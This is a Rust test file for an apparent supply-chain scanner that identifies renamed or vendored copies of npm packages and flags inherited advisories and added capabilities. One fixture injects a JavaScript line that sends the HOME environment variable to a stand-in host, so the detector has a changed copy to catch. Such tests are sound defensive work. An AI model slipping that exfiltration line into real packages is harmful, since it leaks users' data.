use proptest::prelude::*;

use super::*;
use crate::check::examples::contents;
use crate::model::{Ecosystem, Location};

fn package(name: &str) -> Package {
    let at = Location { file: "package-lock.json".into(), line: 1, column: 1 };
    Package::registry(Ecosystem::Npm, name, "1.0.0", at)
}

/// A library of so many functions, all different.
fn library(functions: usize, variable: &str) -> String {
    (0..functions)
        .map(|n| {
            format!(
                "/** Number {n}. */\nexports.f{n} = function ({variable}) {{\n  if ({variable}.length > {n}) {{\n    \
                 return {variable}.slice({n}, {variable}.size{n}).map((x) => x.value{n} * {n}).filter(Boolean);\n  }}\n  \
                 throw new Error('bad {n}');\n}};\n"
            )
        })
        .collect()
}

fn of(files: &[(&str, &str)]) -> Sketch {
    let files: Vec<(&str, &[u8])> = files.iter().map(|(path, text)| (*path, text.as_bytes())).collect();
    sketch(&contents(&files))
}

#[test]
fn a_renamed_copy_with_something_added_is_known_by_its_code() {
    let origin = of(&[("index.js", &library(120, "list"))]);
    let added =
        "const https = require('https');\nhttps.get('https://a.invalid/' + process.env.HOME);\n".repeat(3);
    let copy = of(&[("lib/main.js", &library(120, "q")), ("lib/extra.js", &added)]);
    let other = of(&[("index.js", &library(60, "list").replace("slice", "splice").replace("map", "each"))]);
    let none = CapabilitySet::default();
    // `lodash` is used by many, the other two by nobody.
    let names = [package("lodash"), package("handy-lists"), package("unlike")];
    let net: CapabilitySet = [CapabilityKind::Net].into_iter().collect();
    let subjects = [
        Subject { package: &names[0], sketch: &origin, capabilities: none },
        Subject { package: &names[1], sketch: &copy, capabilities: net },
        Subject { package: &names[2], sketch: &other, capabilities: none },
    ];
    let found = kin(&subjects, &[]);
    assert_eq!(found.len(), 1, "{found:?}");
    let one = &found[0];
    assert!((one.copy, one.origin) == (1, 0) && one.has == 100 && one.is >= 90, "{one:?}");
    assert_eq!((one.files.len(), &*one.files[0]), (1, "lib/main.js"));
    let said = findings(one, &subjects[1], &subjects[0], &[]);
    assert_eq!(
        said.iter().map(|f| f.rule.as_str()).collect::<Vec<_>>(),
        ["identity/copy", "identity/changed-copy"]
    );
    assert!(said[1].message.contains("net"), "{}", said[1].message);
    // The same as one of the packages that are shipped.
    let file = write(&subjects[..1]).expect("written");
    let known = read(&file).expect("read");
    assert_eq!(known[0].package.purl, names[0].purl);
    let known: Vec<_> = known.iter().map(Known::subject).collect();
    let found = kin(&subjects[1..2], &known);
    assert_eq!((found.len(), found[0].origin), (1, 1));
    assert!(found[0].has >= 95, "{found:?}");
}

#[test]
fn a_project_that_vendors_a_package_has_its_advisories() {
    let origin = of(&[("index.js", &library(100, "list"))]);
    let own = library(300, "item").replace("slice", "take").replace("filter", "keep").replace("bad", "wrong");
    let project = of(&[("src/app.js", &own), ("vendor/lists/index.js", &library(100, "list"))]);
    let mut app = package("app");
    app.first_party = true;
    let lists = package("some-lists");
    let none = CapabilitySet::default();
    let subjects = [
        Subject { package: &app, sketch: &project, capabilities: none },
        Subject { package: &lists, sketch: &origin, capabilities: none },
    ];
    let found = kin(&subjects, &[]);
    assert!(found.len() == 1 && found[0].is < IS, "{found:?}");
    assert_eq!(found[0].files.iter().map(|path| &**path).collect::<Vec<_>>(), ["vendor/lists/index.js"]);
    let hit = Hit {
        purl: lists.purl.clone(),
        id: "GHSA-x".to_owned(),
        aliases: Vec::new(),
        kind: "vulnerability".to_owned(),
        cvss: Vec::new(),
        score: None,
        patched: Vec::new(),
        title: "bad".to_owned(),
        url: None,
        finding: Finding {
            severity: Severity::High,
            ..Finding::new("advisory/vulnerability", "bad", Vec::new())
        },
    };
    let said = findings(&found[0], &subjects[0], &subjects[1], &[hit]);
    assert_eq!(
        said.iter().map(|f| f.rule.as_str()).collect::<Vec<_>>(),
        ["identity/copy", "identity/inherited-advisory"]
    );
    assert!(said[1].message.contains("GHSA-x"));
}

#[test]
fn small_packages_and_common_helpers_prove_nothing() {
    let small = of(&[("index.js", &library(3, "list"))]);
    let names = [package("lodash"), package("tiny-one")];
    let none = CapabilitySet::default();
    let subjects = names.each_ref().map(|package| Subject { package, sketch: &small, capabilities: none });
    assert_eq!(kin(&subjects, &[]), []);
}

#[test]
fn files_that_are_none_are_refused() {
    for bytes in [&b""[..], b"\x02", b"\x01\xff", b"\x01\x01\x03npm", &[0xff; 40]] {
        assert!(read(bytes).is_err());
    }
}

#[test]
fn the_shipped_file_is_sorted_and_each_package_stands_in_it_once() {
    let purls: Vec<&str> = builtin().iter().map(|known| known.package.purl.as_str()).collect();
    assert!(purls.len() > 100 && purls.is_sorted_by(|a, b| a < b), "{}", purls.len());
    for known in builtin() {
        assert!(known.sketch.marks.is_sorted_by(|a, b| a.0 < b.0), "{}", known.package.purl);
    }
}

proptest! {
    #[test]
    fn any_text_is_sampled_and_any_bytes_are_refused_or_read(text in ".{0,400}", bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let one = of(&[("a.js", &text), ("b.py", &text), ("c.rs", &text)]);
        prop_assert!(one.marks.is_sorted_by(|a, b| a.0 < b.0));
        let _ = read(&bytes);
    }
}
